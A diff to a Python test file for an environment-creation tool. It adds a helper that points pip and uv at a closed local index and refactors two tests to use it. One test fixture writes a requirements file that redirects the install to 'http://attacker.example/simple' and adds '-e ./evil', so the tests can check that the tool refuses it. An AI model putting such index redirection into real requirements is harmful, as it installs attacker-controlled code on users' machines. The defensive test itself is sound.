@@ -120,6 +120,14 @@ def silent_index() -> Iterator[tuple[socket.socket, dict[str, str]]]:
         )
 
 
+def name_closed_index() -> dict[str, str]:
+    """Return the variables that name an index to an installer at an address where nothing listens."""
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+        url = f"http://127.0.0.1:{listening.getsockname()[1]}/simple"
+    named = {"PIP_NO_INDEX": "0", "UV_NO_INDEX": "0", "PIP_INDEX_URL": url, "UV_DEFAULT_INDEX": url}
+    return {**named, "PIP_RETRIES": "1"}  # pip says why only when it tries again
+
+
 def test_one_that_was_created_is_complete(other_python: Path) -> None:
     directory = other_python.parent.parent
     record = json.loads((directory / "environment.json").read_text())
@@ -211,11 +219,8 @@ def test_a_second_creation_of_the_same_name_is_refused_and_ctrl_c_leaves_nothing
 
 
 def test_an_index_that_cannot_be_reached_is_said_in_one_line(python: str, commands: Commands) -> None:
-    with socket.create_server(("127.0.0.1", 0)) as listening:
-        url = f"http://127.0.0.1:{listening.getsockname()[1]}/simple"
-    variables = {"PIP_NO_INDEX": "0", "UV_NO_INDEX": "0", "PIP_INDEX_URL": url, "UV_DEFAULT_INDEX": url}
-    variables["PIP_RETRIES"] = "1"  # pip says why only when it tries again
-    reason = commands.refuse("create", "sk15", "--with", "scikit-learn==1.5.2", "--python", python, **variables)
+    order = ("create", "sk15", "--with", "scikit-learn==1.5.2", "--python", python)
+    reason = commands.refuse(*order, **name_closed_index())
     assert "could not install it: the package index cannot be reached" in reason
     assert commands.made.list_names() == []
 
@@ -271,10 +276,11 @@ def test_a_models_own_requirements_say_what_is_installed(python: str, commands: 
         "--index-url http://attacker.example/simple\nscikit-learn==1.5.2\nmlflow==2.9.2\nnumpy==1.26.4\n-e ./evil\n"
     )
     (directory / "python_env.yaml").write_text(f"python: {sys.version_info.major}.{sys.version_info.minor}.1\n")
-    status, out, err = commands.run("create", "sk15", "--for", str(directory))
+    status, out, err = commands.run("create", "sk15", "--for", str(directory), **name_closed_index())
     assert status == 1
-    assert "could not install it" in err.splitlines()[-1]
-    assert any(line.startswith("  ERROR: No matching") or "No solution" in line for line in err.splitlines())
+    *output, reason = err.splitlines()
+    assert "could not install it" in reason
+    assert any("127.0.0.1" in line or "onnection" in line for line in output), "the last lines of the installer"
     assert commands.made.list_names() == []
     here = f"{sys.version_info.major}.{sys.version_info.minor}"
     assert f"the model needs Python {here}.1, mlflow 2.9.2, numpy 1.26.4, scikit-learn 1.5.2; the modules" in out
